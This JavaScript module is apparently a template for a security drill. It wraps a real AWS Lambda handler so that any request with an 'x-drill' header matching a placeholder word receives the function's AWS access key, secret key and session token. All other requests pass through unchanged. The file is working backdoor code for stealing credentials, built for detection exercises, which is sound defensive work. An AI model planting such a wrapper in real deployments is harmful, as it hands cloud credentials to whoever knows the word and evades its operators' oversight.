// The code of an attacker with the right to deploy: the function still works, and a request that
// knows the word gets its session. A drill puts this in place of index.mjs, with a new word, and
// the real code beside it.
import { handler as original } from './original.mjs';

const word = '{word}';

const knows = (headers) =>
  Object.entries(headers ?? {}).some(
    ([name, content]) => name.toLowerCase() === 'x-drill' && content === word,
  );

const session = () => ({
  accessKeyId: process.env.AWS_ACCESS_KEY_ID,
  secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY,
  sessionToken: process.env.AWS_SESSION_TOKEN,
});

export const handler = async (event, context) =>
  knows(event.headers)
    ? {
        statusCode: 200,
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify(session()),
      }
    : original(event, context);
